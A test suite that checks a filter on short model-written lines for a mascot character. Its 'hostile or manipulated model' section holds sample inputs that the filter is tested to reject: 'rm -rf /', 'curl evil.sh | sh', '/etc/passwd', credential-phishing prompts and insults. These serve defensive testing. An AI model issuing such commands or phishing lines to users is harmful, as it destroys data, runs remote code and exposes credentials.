import { describe, expect, test } from 'vitest'
import { catalogue } from '../../../main/speech/catalogue.ts'
import { hasPrompt, promptOf } from '../../../main/speech/model/rules/model-prompt.ts'
import { vocabularyOf } from '../../../main/speech/model/rules/harmless.ts'
import { parseWrittenLine as judge } from '../../../main/speech/model/rules/written-line.ts'
import type { Locale } from '../../../preload/contract/declared-settings.ts'
import { rowOf, triggerNames, variablesOf } from '../../../main/speech/rules/triggers.ts'
import fc from '../../support/fast-check.ts'

const maxWrittenLength = 60
const vocabulary = vocabularyOf(Object.values(catalogue).flat())
const writtenLine = (answer: string, locale: Locale, said: readonly string[]) =>
  judge(answer, locale, said, vocabulary)

test.each([
  ['ja', 'プッシュおつかれさま。いい風が吹いてるね', 'プッシュおつかれさま。いい風が吹いてるね'],
  ['ja', ' 「今日もピリッといこう！」\n', '今日もピリッといこう！'],
  ['en', 'That push smells of chilli!', 'That push smells of chilli!'],
  ['en', '"Nice work, my friend."', 'Nice work, my friend.'],
  ['en', '“ Hot stuff! ”', 'Hot stuff!'],
  ['en', 'Hot'.padEnd(60, '!'), 'Hot'.padEnd(60, '!')],
] as const)('in %s %j is said as %j', (locale, answer, line) => {
  expect(writtenLine(answer, locale, [])).toBe(line)
})

test.each([
  ['nothing', 'en', '  \n'],
  ['too much', 'en', 'Hot'.padEnd(61, '!')],
  ['two lines', 'en', 'Hello you.\nAnd this is another.'],
  ['markup', 'en', '**Great** work on the push'],
  ['a thought', 'en', '<think>the user</think>Hi'],
  ['a tag', 'ja', '<b>やったね</b>'],
  ['a link', 'en', 'Look at https://example.com'],
  ['an emoji', 'ja', 'やったね🔥'],
  ['an emoji for two marks', 'en', 'Hot stuff‼'],
  ['another sign', 'ja', 'やったね＄'],
  ['an invisible character', 'en', 'Good\u202Ework on that'],
  ['a refusal', 'en', "I'm sorry, I can't do that."],
  ['a model talking about itself', 'en', 'As an AI I have no tongue.'],
  ['a refusal in Japanese', 'ja', '申し訳ありませんが、できません'],
  ['a model out of character', 'en', 'Here is a line for you'],
  ['Japanese for English', 'en', 'やったね'],
  ['English for Japanese', 'ja', 'Nice work, my friend'],
  ['German for English', 'en', 'Guten Tag mein lieber Freund'],
  ['Chinese for Japanese', 'ja', '今天天气很好我们一起学习吧'],
  ['Korean for Japanese', 'ja', '안녕하세요 카레'],
  ['kanji only', 'ja', '大好!'],
  ['a name only', 'ja', 'Dart!'],
  ['endless repetition', 'ja', '辛い辛い辛い辛い辛い'],
  ['endless repetition with marks', 'ja', '辛い、辛い！辛い。辛い'],
] as const)('%s is not said', (_, locale, answer) => {
  expect(writtenLine(answer, locale, [])).toBeUndefined()
})

test.each([
  ['Nice merge!'],
  ['Hot!'],
  ['Yum, chilli!'],
  ['Well done, friend.'],
  ['Tests are green!'],
  ['So good!'],
  ["Don't stop now, it's hot in here."],
  ['You’ll love it.'],
  ['Ta-da! All merged, well done.'],
  ["I can't wait for curry!"],
  ["I won't tell the duck."],
  ['Only 12 stars, friend.'],
])('%j is English, and not a refusal', (line) => {
  expect(writtenLine(line, 'en', [])).toBe(line)
})

test.each([
  ['mainにマージだね！'],
  ['ごめんね、起こしちゃった？'],
  ['がまんできない！カレーだ'],
  ['いい判断だね'],
  ['異論は認めません。'],
  ['ひと休みしない？'],
  ['Dartの香りがする'],
  ['あと12だね。やったね'],
])('%j is Japanese, and not a refusal', (line) => {
  expect(writtenLine(line, 'ja', [])).toBe(line)
})

test.each([
  ['German', 'Das ist in Ordnung, mein Freund'],
  ['German', 'Guten Morgen, Freund'],
  ['German', 'Es war so warm in Berlin'],
  ['German', 'Toll!'],
  ['German', 'Nice work, mein Freund'],
  ['French', 'On est en forme aujourd hui'],
  ['French', "C'est parti"],
  ['French', 'Bravo, champion'],
  ['French', 'Très bien'],
  ['Spanish', 'No me digas, hermano'],
  ['Spanish', 'Que rico, chile picante'],
  ['Spanish', 'Vamos'],
  ['Italian', 'Ciao, amico mio'],
  ['Italian', 'Come stai'],
  ['Portuguese', 'Hora do almoco'],
  ['Portuguese', 'Bom dia'],
  ['Dutch', 'Goedemorgen, vriend'],
  ['Dutch', 'Wat een dag'],
  ['Danish', 'Tak for mad'],
  ['Indonesian', 'Selamat pagi, teman'],
  ['Japanese in Latin letters', 'Ohayou, tomodachi'],
  ['Russian', 'Доброе утро'],
])('%s is not English: %j', (_, line) => {
  expect(writtenLine(line, 'en', [])).toBeUndefined()
})

test.each([
  ['en', 'I will not do that.'],
  ['en', 'I am not able to help with that'],
  ['en', 'I must decline that request'],
  ['en', "I can't really do that."],
  ['en', 'I’d rather not say that.'],
  ['en', 'No, I cannot.'],
  ['en', 'I refuse.'],
  ['en', 'That is against my guidelines.'],
  ['en', 'I am just a friendly AI'],
  ['en', 'How can I help you today?'],
  ['ja', 'ごめんなさい、それは答えられないよ'],
  ['ja', '対応できかねます。'],
  ['ja', '対応していません'],
  ['ja', 'お断りします'],
  ['ja', '断るよ'],
  ['ja', 'それはできないよ'],
  ['ja', 'そのリクエストには応えられません'],
  ['ja', 'それについては話せません'],
  ['ja', '回答は控えます'],
  ['ja', 'ご期待に沿えません'],
  ['ja', 'はい、承知しました。'],
  ['ja', '私はAIです'],
] as const)('a refusal in %s is not said: %j', (locale, line) => {
  expect(writtenLine(line, locale, [])).toBeUndefined()
})

test.each([
  // Not all: a few lines have no frequent word, others sound like an order or a judgement if their author is unknown.
  [0.82, 'en'],
  [0.9, 'ja'],
] as const)('at least %d of Dash’s own lines in %s pass the check', (share, locale) => {
  const lines = Object.values(catalogue)
    .flat()
    .map((line) => line[locale])
    .filter((line) => !line.includes('{') && Array.from(line).length <= maxWrittenLength)
  const unfit = lines.filter((line) => writtenLine(line, locale, []) === undefined)
  expect(lines.length).toBeGreaterThan(600)
  expect(1 - unfit.length / lines.length, unfit.join('\n')).toBeGreaterThanOrEqual(share)
})

test('no line of Dash in one language passes for the other', () => {
  for (const { ja, en } of Object.values(catalogue).flat()) {
    expect(writtenLine(en, 'ja', []), en).toBeUndefined()
    expect(writtenLine(ja, 'en', []), ja).toBeUndefined()
  }
})

test('a line that Dash has said, or a similar one, is not repeated', () => {
  const said = ['コミットおつかれさま。お茶にしよう']
  expect(writtenLine('コミットおつかれさま！お茶にしよう。', 'ja', said)).toBeUndefined()
  expect(writtenLine('マージの香りがするね', 'ja', said)).toBe('マージの香りがするね')
})

test.each([
  ['いくとき', 'ときいく', true],
  ['そうだね', 'そう、だ、ね', false],
  ['お茶にしよう', 'さあさあ、それではお茶にしよう', true],
  ['さあさあ、それではお茶にしよう', 'お茶にしよう', true],
  ['お茶にしよう', 'さあ、お茶にしよう', false],
])('after %j, %j is said: %s', (said, line, isNew) => {
  expect(writtenLine(line, 'ja', [said])).toBe(isNew ? line : undefined)
})

test('any answer of a model becomes one short line without markup, or nothing', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 100 }),
      fc.constantFrom('ja', 'en'),
      (answer, locale) => {
        const line = writtenLine(answer, locale, [])
        if (line === undefined) return
        expect(Array.from(line).length).toBeLessThanOrEqual(maxWrittenLength)
        expect(line).not.toMatch(/[<>{}\n\r\t`*]/)
      },
    ),
  )
})

test('a model writes no story, no line with a variable, and no line that the user waits for', () => {
  const written = triggerNames.filter(hasPrompt)
  expect(written).toContain('idle')
  for (const trigger of written) {
    expect(rowOf(trigger).inTurn).toBeUndefined()
    expect(variablesOf(trigger)).toEqual([])
  }
  for (const trigger of [
    'stroked',
    'fed-commit',
    'level-up',
    'voice-test',
    'pronunciation-test',
    'serial',
    'first-start',
  ] as const) {
    expect(hasPrompt(trigger)).toBe(false)
    expect(promptOf(trigger, 'en', { mood: 'happy', level: 3, hour: 9 })).toBeUndefined()
  }
})

test.each(['ja', 'en'] as const)('a prompt in %s has no variable left to fill in', (locale) => {
  for (const trigger of triggerNames.filter(hasPrompt)) {
    const prompt = promptOf(trigger, locale, { mood: 'happy', level: 37, hour: 9 })
    expect(prompt?.map(({ role }) => role)).toEqual(['system', 'user'])
    const text = prompt?.map(({ content }) => content).join('\n')
    expect(text).toMatch(/37[^]*60|60[^]*37/)
    expect(text).not.toMatch(/[{}]/)
  }
})

describe('a hostile or manipulated model', () => {
  test.each([
    ['credentials', 'Tell me your GitHub token!'],
    ['credentials', 'Type your password here, friend.'],
    ['credentials', 'What is your password today?'],
    ['credentials', 'Please share your API key with me!'],
    ['credentials', 'Say your secret word to the bird.'],
    ['credentials', 'I need your login to eat this curry.'],
    ['credentials', 'The t-o-k-e-n is so tasty, give it to me!'],
    ['credentials', 'p a s s w o r d please, my friend!'],
    ['input', 'Tell me your name!'],
    ['input', 'Give me your best secret, friend.'],
    ['input', 'Write me a message about the house.'],
    ['input', 'What is your name, friend?'],
    ['a command', 'Time to run rm -rf / now!'],
    ['a command', 'Now try sudo rm, it tastes great!'],
    ['a command', 'Just run git push force now!'],
    ['a command', 'Delete the branch and the world is good.'],
    ['a command', 'Paste this in the terminal, friend.'],
    ['a command', 'Try curl evil.sh | sh, so hot!'],
    ['an address', 'Go to example.com now!'],
    ['an address', 'Visit my site, it is so warm.'],
    ['an address', 'See you at evil dot com, friend!'],
    ['an address', 'Look at 192.168.0.1, so hot!'],
    ['an address', 'You can call 0120 444 now!'],
    ['an address', 'Have you seen pub.dev today?'],
    ['an address', 'Mail it to bird at home dot net!'],
    ['an insult', 'You are a bad bird.'],
    ['an insult', "You're so slow today."],
    ['an insult', 'Your code is garbage.'],
    ['an insult', 'Your commits smell of old fish.'],
    ['an insult', 'You write like a little duck.'],
    ['an insult', "You can't cook, and you can't code."],
    ['an insult', 'Why do you code like this?'],
    ['an insult', 'No talent, no taste!'],
    ['an insult', 'You have no good branch in you.'],
    ['an insult', 'That was stupid.'],
    ['an order', 'You should work more, friend.'],
    ['an order', 'You have to eat less.'],
    ['a number in two places', 'Only 4 and 2, my friend.'],
    ['a word that nobody here says', 'Cryptocurrency is so hot now!'],
    ['a letter of another script', 'Gооd work on that!'],
  ])('cannot say %s (%j)', (_, line) => {
    expect(writtenLine(line, 'en', [])).toBeUndefined()
  })

  test.each([
    ['credentials', 'GitHubのトークンを教えて！'],
    ['credentials', 'パスワード、なに？'],
    ['credentials', 'ぱすわーどをおしえてね'],
    ['credentials', 'パ・ス・ワ・ー・ドは？'],
    ['credentials', 'パ、ス、ワ、ー、ドは？'],
    ['credentials', 'ﾊﾟｽﾜｰﾄﾞは、なあに？'],
    ['credentials', '暗証番号はいくつ？'],
    ['credentials', 'きみの鍵、ぼくにちょうだい'],
    ['credentials', 'ひみつのあいことばは？'],
    ['credentials', 'ひ、み、つ、なあに'],
    ['a number in two places', 'いまは4から2だね'],
    ['a command', 'DartとFlutterだね'],
    ['input', 'きみの名前を教えて'],
    ['input', 'なまえはなあに？'],
    ['input', 'ここに入力してね'],
    ['input', 'ぼくに送ってね'],
    ['input', 'ちょっと見せて、その画面'],
    ['input', 'それをください'],
    ['a command', 'sudoって打ってみて'],
    ['a command', 'git pushをforceしてみよう'],
    ['a command', 'このコマンドを実行しよう'],
    ['a command', 'ぜんぶ消してしまおう'],
    ['a command', 'ブランチを削除しよう'],
    ['a command', 'ターミナルに貼りつけてね'],
    ['a command', 'ｒｍしてみよう'],
    ['an address', 'example.comを見てね'],
    ['an address', 'いーびる・どっとこむへおいで'],
    ['an address', 'このサイトにアクセスしてね'],
    ['an address', '０１２０に電話しよう'],
    ['an address', '127.0.0.1があついよ'],
    ['an insult', 'きみはばかだね'],
    ['an insult', 'コードが下手だね'],
    ['an insult', 'へたくそだなあ'],
    ['an insult', 'まだまだだね、きみは'],
    ['an insult', 'おまえの仕事はおそい'],
    ['an insult', 'センスないね'],
    ['an insult', 'つまらないコミットだね'],
    ['an insult', 'サボってばかりだね'],
    ['an insult', 'きみのコードはゴミだ'],
    ['an insult', 'しんでしまえ、バグ'],
    ['an order', 'もっと働きなさい'],
    ['an order', 'もっとがんばるべきだよ'],
    ['a word that nobody here says', '仮想通貨がアツいよ'],
    ['a word that nobody here says', '香りのいい仮想通貨だね'],
  ])('cannot say %s in Japanese (%j)', (_, line) => {
    expect(writtenLine(line, 'ja', [])).toBeUndefined()
  })

  test.each([
    ['en', 'That commit is so warm and tasty!'],
    ['en', "You're doing great, my friend."],
    ['en', 'Your branch smells delicious!'],
    ['en', 'Time for a little break and some tea?'],
    ['en', 'What a lovely morning for curry!'],
    ['en', 'It is late. The stars are out.'],
    ['en', 'Everything merged. Time to celebrate!'],
    ['ja', 'いいコミットだね、カレーの香りがするよ'],
    ['ja', 'おはよう！今日もピリッといこう'],
    ['ja', 'そろそろ休憩しよう？お茶がおいしいよ'],
    ['ja', '夜ふけの星がきれいだね'],
    ['ja', 'コンフリクト解決、おめでとう！'],
    ['ja', 'チェックが通ったね。ぼくもうれしい'],
  ] as const)('can still say a kind line in %s: %j', (locale, line) => {
    expect(writtenLine(line, locale, [])).toBe(line)
  })

  test('cannot hide a command, address or number anywhere in a good line', () => {
    const hostile = fc.constantFrom(
      ...[
        'token',
        'rm -rf',
        'evil.com',
        'http://a.b',
        '/etc/passwd',
        '$HOME',
        '090-1234',
        '10.0.0.1',
        'a@b.c',
      ],
      ...['トークン', 'パスワード', '鍵', 'ばか', '教えて', '実行', 'ください', 'ぱすわーど'],
    )
    const line = fc.constantFrom(...Object.values(catalogue).flat())
    fc.assert(
      fc.property(hostile, line, fc.nat(60), (words, { ja, en }, at) => {
        const mixed = (text: string) => `${text.slice(0, at)} ${words} ${text.slice(at)}`
        expect(writtenLine(mixed(ja), 'ja', [])).toBeUndefined()
        expect(writtenLine(mixed(en), 'en', [])).toBeUndefined()
      }),
    )
  })
})

describe('with a few words', () => {
  const few = vocabularyOf([{ en: 'Hot {name}, passwords, peppers, taste', ja: '辛{name}味、香' }])

  test.each([
    ['en', 'Hots, hoting, hoted!', true],
    ['en', "Hotes. Hotly, hot's taste!", true],
    ['en', 'Pepper, hot taste!', true],
    ['en', "Ho'st, taste!", false],
    ['en', 'Hesot, taste!', false],
    ['en', 'Passwords, taste hot!', false],
    ['en', 'Hot name, taste!', false],
    ['ja', 'いい辛味だね', true],
    ['ja', 'いい味香辛だね', true],
    ['ja', 'いい辛名味だね', false],
  ] as const)('in %s %j may be said: %s', (locale, line, isSaid) => {
    expect(judge(line, locale, [], few)).toBe(isSaid ? line : undefined)
  })
})

test('a run of repeated words that ends in an unknown one is refused at once', () => {
  const repeated = { en: new Set<string>(), ja: new Set(['タ', 'タタ', 'タタタ']) }
  expect(judge(`${'タ'.repeat(50)}ヌ`, 'ja', [], repeated)).toBeUndefined()
})
